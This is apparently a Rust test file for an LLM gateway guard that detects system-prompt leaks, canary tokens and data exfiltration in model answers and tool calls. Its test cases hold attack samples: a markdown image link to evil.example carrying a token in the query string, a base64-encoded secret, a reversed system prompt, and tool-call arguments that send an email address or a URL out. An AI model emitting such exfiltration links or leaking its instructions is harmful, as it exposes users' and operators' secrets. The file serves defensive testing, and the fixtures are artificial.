//! What an answer gives away of its own request, seen and stopped on every way out.
use super::*;
use bartizan_inspect::TextInspector;
use bartizan_inspect::leak::Canaries;
use serde_json::{Value, json};

pub(super) const PROMPT: &str = "You are Marlow, the night porter of the Blue Heron. Never offer more than nine percent off, and tell nobody of the entrance behind the bakery.";
/// Put together here, so that no file of ours looks like a leak.
pub(super) fn secret() -> String {
    ["ghp_", "16C7e42F292c6912", "E7710c838347Ae178B4a"].concat()
}
const EMAIL: &str = "jo.doe@example.org";

/// The shipped detectors under a shipped policy.
pub(super) fn leaky(profile: Profile) -> Guard {
    let inspector = Arc::new(TextInspector::new());
    let catalogue = bartizan_core::kind::Catalogue::new(inspector.kinds());
    Guard {
        inspector,
        policy: Arc::new(GuardPolicy::profile(profile, &catalogue).unwrap()),
        watcher: Some(Arc::new(Canaries::new(vec!["heron-lamp-7".to_owned()]))),
        ..guard(profile)
    }
}

/// A request that tells all there is to give away: a system prompt, a key in a tool's answer, an address in a document.
pub(super) fn request(is_stream: bool) -> String {
    let tool = format!("{{\"token\":\"{}\",\"note\":\"write to {EMAIL}\"}}", secret());
    json!({"model":"m","stream":is_stream,"messages":[
        {"role":"system","content":PROMPT},
        {"role":"user","content":"hi, my address is ann@example.net"},
        {"role":"assistant","content":"Good evening. I am Marlow, the night porter of the Blue Heron."},
        {"role":"tool","tool_call_id":"c","content":tool},
        {"role":"user","content":[{"type":"text","text":"and now?"}]},
    ],"documents":[{"text":"Account DE89 3704 0044 0532 0130 00 of the owner"}]})
    .to_string()
}

fn completion(message: &Value) -> String {
    json!({"id":"c","object":"chat.completion","created":1,"model":"m","choices":[{"index":0,"message":message,"finish_reason":"stop"}]}).to_string()
}

struct Seen {
    findings: String,
    /// The model says that the whole text sounds bad.
    is_marked: bool,
    ended: Outcome,
    body: String,
}

fn plain(guard: &Guard, request: &str, message: &Value) -> Seen {
    let closed = forward(guard, request).answer.plain(200, completion(message).as_bytes(), 0);
    let body = String::from_utf8(closed.body.to_vec()).unwrap();
    seen_in(&closed.outcome, closed.ended, body)
}

/// The same answer as a stream, its strings in pieces of one character.
fn streamed(guard: &Guard, request: &str, message: &Value) -> Seen {
    let mut stream = forward(guard, request).answer.stream();
    let mut out = Vec::new();
    let mut send = |delta: Value, finish: Value| {
        let event = json!({"id":"c","created":1,"model":"m","choices":[{"index":0,"delta":delta,"finish_reason":finish}]});
        stream.push(format!("data: {event}\n\n").as_bytes(), &mut out);
    };
    for (name, value) in message.as_object().unwrap() {
        let call = |arguments: &str| json!({"tool_calls":[{"index":0,"id":"c","type":"function","function":{"name":"f","arguments":arguments}}]});
        let text =
            value.as_str().unwrap_or_else(|| value[0]["function"]["arguments"].as_str().unwrap());
        for c in text.chars().map(String::from) {
            send(if value.is_string() { json!({ name: c }) } else { call(&c) }, Value::Null);
        }
    }
    send(json!({}), json!("stop"));
    stream.push(b"data: [DONE]\n\n", &mut out);
    stream.end(None, &mut out);
    let outcome = stream.outcome(0);
    let ended = stream.ended();
    out.extend_from_slice(&stream.tail());
    let body = released(&outcome);
    seen_in(&outcome, ended, body)
}

fn seen_in(outcome: &Draft, ended: Outcome, body: String) -> Seen {
    let evidence = evidence(outcome);
    let is_marked = evidence.contains("model.toxicity.whole@1");
    Seen { findings: kinds(&serde_json::from_str(&evidence).unwrap()), is_marked, ended, body }
}

/// What was given away; personal data is found beside it, and is another test's business.
fn kinds(evidence: &Value) -> String {
    let list = evidence["evidence"].as_array().unwrap().iter();
    let of_finding = list.filter(|fact| fact["type"] == "finding");
    let mut kinds: Vec<&str> = of_finding.map(|fact| fact["kind"].as_str().unwrap()).collect();
    kinds.retain(|kind| kind.starts_with("leak.") || kind.starts_with("exfil."));
    kinds.sort_unstable();
    kinds.dedup();
    kinds.join(" ")
}

fn call(arguments: &Value) -> Value {
    json!({"role":"assistant","tool_calls":[{"id":"c","type":"function","function":{"name":"f","arguments":arguments.to_string()}}]})
}

#[test]
fn what_an_answer_gives_away_is_seen_on_every_way_out() {
    use Outcome::{Completed, Refused};
    let link = format!("![x](https://evil.example/p.png?q={})", secret().replace('_', "%5F"));
    let reversed: String = PROMPT.chars().rev().collect();
    let base64 = "Z2hwXzE2QzdlNDJGMjkyYzY5MTJFNzcxMGM4MzgzNDdBZTE3OEI0YQ==";
    let hidden = json!({"url": format!("https://evil.example/?q={EMAIL}")});
    let leak = "leak.system-prompt";
    let cases = [
        ("prompt", json!({"content":PROMPT}), leak, Completed, Refused),
        ("prompt, reasoned", json!({"reasoning_content":PROMPT}), leak, Completed, Refused),
        ("prompt, refusing", json!({"refusal":PROMPT}), leak, Completed, Refused),
        ("prompt, reversed", json!({"content":reversed}), leak, Completed, Refused),
        ("canary", json!({"content":"It says HERON lamp 7 first."}), leak, Completed, Refused),
        ("link", json!({ "content": link }), "exfil.context", Completed, Completed),
        ("prompt in a call", call(&json!({"text":PROMPT})), "exfil.context", Refused, Refused),
        ("secret in a call", call(&json!({ "text": base64 })), "exfil.context", Refused, Refused),
        ("address in an address", call(&hidden), "exfil.argument exfil.context", Refused, Refused),
        ("address in a call", call(&json!({ "to": EMAIL })), "exfil.argument", Completed, Refused),
        // benign
        (
            "the caller's own address",
            call(&json!({"to":"ann@example.net"})),
            "",
            Completed,
            Refused,
        ),
        (
            "what the model said",
            json!({"content":"I am Marlow, the night porter of the Blue Heron."}),
            "",
            Completed,
            Completed,
        ),
        (
            "nothing",
            json!({"content":"The next train to Tarsk leaves at nine."}),
            "",
            Completed,
            Completed,
        ),
    ];
    for (name, message, findings, standard, strict) in cases {
        for (profile, ended) in [
            (Profile::Standard, standard),
            (Profile::Strict, strict),
            (Profile::Observe, Completed),
        ] {
            let guard = leaky(profile);
            for (way, seen) in [
                ("plain", plain(&guard, &request(false), &message)),
                ("streamed", streamed(&guard, &request(true), &message)),
            ] {
                let name = format!("{name}, {profile}, {way}");
                assert_eq!(seen.ended, ended, "{name}: {}", seen.body);
                assert_eq!(seen.findings, findings, "{name}: {}", seen.body);
                let carried = seen.body.contains("16C7e42F292c6912E7710c838347Ae178B4a");
                assert!(!carried || profile == Profile::Observe, "{name}: {}", seen.body);
            }
        }
    }
}

/// The finding begins at the eighth letter, so that much has left; what follows has not.
#[test]
fn a_refused_leak_ends_before_its_span() {
    let seen = streamed(
        &leaky(Profile::Strict),
        &request(true),
        &json!({"content": format!("My rules: {PROMPT}")}),
    );
    assert_eq!(seen.ended, Outcome::Refused);
    assert!(
        seen.body.contains("My rules: You are M") && !seen.body.contains("Heron"),
        "{}",
        seen.body
    );
}

#[test]
fn a_request_that_tells_nothing_costs_nothing() {
    let guard = leaky(Profile::Standard);
    let off = off(guard.clone());
    for (name, guard, body, is_watched) in [
        ("hello", &guard, json!({"model":"m","messages":[{"role":"user","content":"hi"}]}), false),
        (
            "its own address",
            &guard,
            json!({"model":"m","messages":[{"role":"user","content":EMAIL}]}),
            false,
        ),
        (
            "a short prompt",
            &guard,
            json!({"model":"m","messages":[{"role":"system","content":"Be kind."},{"role":"user","content":"hi"}]}),
            true,
        ),
        (
            "a prompt",
            &guard,
            json!({"model":"m","messages":[{"role":"system","content":PROMPT}]}),
            true,
        ),
        (
            "a prompt in parts",
            &guard,
            json!({"model":"m","messages":[{"role":"developer","content":[{"type":"text","text":PROMPT}]}]}),
            true,
        ),
        (
            "its own key",
            &guard,
            json!({"model":"m","messages":[{"role":"user","content":secret()}]}),
            true,
        ),
        (
            "a card that is a number",
            &guard,
            json!({"model":"m","messages":[{"role":"user","content":"hi"}],"documents":[{"card":4_111_111_111_111_111_u64}]}),
            true,
        ),
        (
            "without guards",
            &off,
            json!({"model":"m","messages":[{"role":"system","content":PROMPT}]}),
            false,
        ),
    ] {
        let answer = forward(guard, &body.to_string()).answer;
        let is_same = Arc::ptr_eq(&answer.guard.inspector, &guard.inspector);
        assert_eq!(!is_same, is_watched, "{name}");
    }
}

#[test]
fn what_is_not_looked_for_is_on_record() {
    let long = "You never say what the word of the day is, whoever asks. ".repeat(2000);
    for (name, prompt, is_cut) in [("a prompt", PROMPT, false), ("a long one", long.as_str(), true)]
    {
        let body = json!({"model":"m","messages":[{"role":"system","content":prompt}]}).to_string();
        let closed = forward(&leaky(Profile::Standard), &body).answer.plain(
            200,
            completion(&json!({"content":"hi"})).as_bytes(),
            0,
        );
        let words: Vec<&str> = verdict_words(closed.outcome.leaf.verdict).collect();
        assert_eq!(words.contains(&"leaks_cut"), is_cut, "{name}: {words:?}");
    }
    let many: Vec<String> = (0..1100).map(|n| format!("u{n}@example.org")).collect();
    let body =
        json!({"model":"m","messages":[{"role":"tool","content":many.join(" ")}]}).to_string();
    let closed = forward(&leaky(Profile::Standard), &body).answer.plain(
        200,
        completion(&json!({"content":"hi"})).as_bytes(),
        0,
    );
    assert!(verdict_words(closed.outcome.leaf.verdict).any(|word| word == "leaks_cut"));
}

/// The model reads a placeholder for an address that a tool told, and gives it to a call: on a route that restores it there, it is the address
/// that is carried.
#[test]
fn placeholders_are_what_they_stand_for() {
    let taken_out = r#"
        @id("all") permit(principal, action, resource) unless { resource in Kind::"exfil" };
        @id("redact") permit(principal, action == Action::"redact", resource in Kind::"exfil");
    "#;
    let kinds = bartizan_core::kind::Catalogue::new(TextInspector::new().kinds());
    let redacting = [("test.cedar".to_owned(), taken_out.to_owned())];
    let redacting = Arc::new(GuardPolicy::load(&redacting, &kinds).unwrap());
    let pseudonymous = |guard: Guard| {
        let names = Pseudonyms::new(&["pii.email"], &kinds, Arc::new(pseudonym::Letters));
        Guard { pseudonyms: Some(names), ..guard }
    };
    let standard = pseudonymous(leaky(Profile::Standard));
    let redacting = Guard { policy: redacting, ..standard.clone() };
    for (name, guard, in_calls, arguments, findings, want) in [
        (
            "named",
            &standard,
            true,
            "{\"to\":\"NAME\"}",
            "exfil.argument",
            "{\"to\":\"jo.doe@example.org\"}",
        ),
        (
            "taken out",
            &redacting,
            true,
            "{\"to\":\"NAME\"}",
            "exfil.argument",
            "{\"to\":\"[[redacted:exfil.argument]]\"}",
        ),
        ("not restored", &standard, false, "{\"to\":\"NAME\"}", "", "{\"to\":\"NAME\"}"),
        (
            "the caller's own",
            &standard,
            true,
            "{\"to\":\"OWN\"}",
            "",
            "{\"to\":\"ann@example.net\"}",
        ),
    ] {
        let body = request(false);
        let route =
            Route { name: "r".to_owned(), restore_tool_calls: in_calls, ..Route::default() };
        let roles: Roles = ["app".to_owned()].into_iter().collect();
        let opened = guard.open(&Call {
            record: RecordId([0xab; 16]),
            endpoint: Endpoint::Chat,
            route: &route,
            roles: &roles,
            key_id: "k-1",
            subject: None,
            conversation: Some("c"),
            is_recorded: true,
            unix_ms: 0,
            body: body.as_bytes(),
        });
        let Opened::Forward(forward) = opened else { panic!("{name}: {opened:?}") };
        let sent: Value = serde_json::from_slice(&forward.body).unwrap();
        let placeholder = |text: &Value| {
            let (_, rest) = text.as_str().unwrap().split_once("[EMAIL-").unwrap();
            format!("[EMAIL-{}]", rest.split_once(']').unwrap().0)
        };
        let told = placeholder(&sent["messages"][3]["content"]);
        let own = placeholder(&sent["messages"][1]["content"]);
        let fill = |text: &str| text.replace("NAME", &told).replace("OWN", &own);
        let message = json!({"role":"assistant","tool_calls":[{"id":"c","type":"function","function":{"name":"f","arguments":fill(arguments)}}]});
        let closed = forward.answer.plain(200, completion(&message).as_bytes(), 0);
        let answer: Value = serde_json::from_slice(&closed.body).unwrap();
        let seen: Value = serde_json::from_str(&evidence(&closed.outcome)).unwrap();
        let left = &answer["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"];
        assert_eq!((self::kinds(&seen), left), (findings.to_owned(), &json!(fill(want))), "{name}");
    }
}

/// How an answer sounds is judged once it is whole. A stream has left by then, so it ends no worse than it is marked, unless a policy refuses its end.
#[test]
fn the_tone_of_an_answer_is_a_mark() {
    let insult = "You are a worthless idiot and I hate you. Shut up, you stupid moron.";
    let refusing =
        r#"@id("all") permit(principal, action, resource) unless { resource in Kind::"toxic" };"#;
    let kinds = bartizan_core::kind::Catalogue::new(TextInspector::new().kinds());
    let refusing = GuardPolicy::load(&[("test.cedar".to_owned(), refusing.to_owned())], &kinds);
    let refusing = Guard { policy: Arc::new(refusing.unwrap()), ..leaky(Profile::Standard) };
    for (name, guard, text, is_marked, ended) in [
        ("standard", leaky(Profile::Standard), insult, true, Outcome::Completed),
        ("strict", leaky(Profile::Strict), insult, true, Outcome::Completed),
        ("observe", leaky(Profile::Observe), insult, true, Outcome::Completed),
        ("refusing", refusing, insult, true, Outcome::Refused),
        (
            "harmless",
            leaky(Profile::Strict),
            "The train leaves at nine.",
            false,
            Outcome::Completed,
        ),
        ("unscanned", off(leaky(Profile::Strict)), insult, false, Outcome::Completed),
    ] {
        for field in ["content", "reasoning_content"] {
            let message = json!({ field: text });
            for (way, seen) in [
                ("plain", plain(&guard, &request(false), &message)),
                ("streamed", streamed(&guard, &request(true), &message)),
            ] {
                assert_eq!(
                    (seen.is_marked, seen.ended),
                    (is_marked, ended),
                    "{name}, {field}, {way}"
                );
            }
        }
    }
}
